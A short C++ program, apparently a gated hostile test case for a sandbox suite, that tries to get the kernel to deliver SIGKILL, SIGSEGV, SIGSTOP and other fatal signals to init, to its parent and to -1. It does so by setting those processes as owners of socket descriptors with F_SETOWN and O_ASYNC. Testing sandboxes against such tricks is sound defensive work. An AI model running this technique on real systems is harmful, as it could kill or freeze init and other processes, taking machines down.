// have the kernel send signals to the init, by owning its descriptors
#include <cstdlib>
#include <csignal>
#include <fcntl.h>
#include <initializer_list>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>
int main() {
  const char *ok = getenv("HOSTILE_OK"); if (!ok || *ok != '1') return 77;
  for (int owner : {1, (int)getppid(), -1})
    for (int s : {SIGSEGV, SIGBUS, SIGILL, SIGKILL, SIGSTOP, SIGTERM}) {
      if (owner == 0) continue;
      int p[2]; if (socketpair(AF_UNIX, SOCK_STREAM, 0, p)) continue;
      fcntl(p[0], F_SETSIG, s);
      f_owner_ex o{F_OWNER_PID, owner};
      if (fcntl(p[0], F_SETOWN, owner) && fcntl(p[0], F_SETOWN_EX, &o)) ioctl(p[0], FIOSETOWN, &owner);
      fcntl(p[0], F_SETFL, O_ASYNC);
      (void)!write(p[1], "x", 1);
    }
}
